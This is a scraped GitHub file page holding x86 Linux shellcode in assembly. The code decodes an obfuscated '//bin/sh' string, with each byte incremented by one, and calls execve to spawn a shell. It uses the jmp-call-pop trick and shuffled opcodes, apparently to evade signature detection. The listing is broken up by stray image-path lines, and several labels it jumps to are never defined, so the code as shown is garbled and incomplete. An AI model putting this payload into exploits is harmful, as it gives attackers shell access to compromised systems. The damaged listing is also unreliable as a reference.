Switch branches/tags
Nothing to show
Find file Copy path
Fetching contributors…
Cannot retrieve contributors at this time
executable file 51 lines (40 sloc) 1.17 KB
global _start
section .text
jmp short here
mov dword esi, [esp] ; equivalent to mov the @ of our encoded //bin/sh into esi
pop edi ; same @ in edi
push 0x1 ; mix a little bit the opcodes
pop eax
dec eax
push eax
mov edx,esp
xor ecx, ecx
mov cl, 0x7 ; //bin/sh is 7 bytes long
mov eax, [edi + ecx] ; we are looping on our string
dec eax ; decrement the value
mov [edi + ecx], eax ; setting the right char into memory
dec cl
jns dec1 ; jump if not signed
xor eax, eax ; here we go for setting the right argument for our execve syscall
push eaxadd esp,3
lea esi,[esi+6]
xor eax,[esi-2]
push eax
xor eax,eax
xor eax,[edi]
push eax
mov ebx,esp
xor eax,eax
push eax
lea edi,[ebx]
push edi
mov ecx,espmov al,0xb ; int execve(const char *filename, char *const argv[],char *const envp[]);
int 0x80call me
path db 0x30,0x30,0x63,0x6a,0x6f,0x30,0x74,0x69 ; encoded //bin/shstring, we added 1 to each byte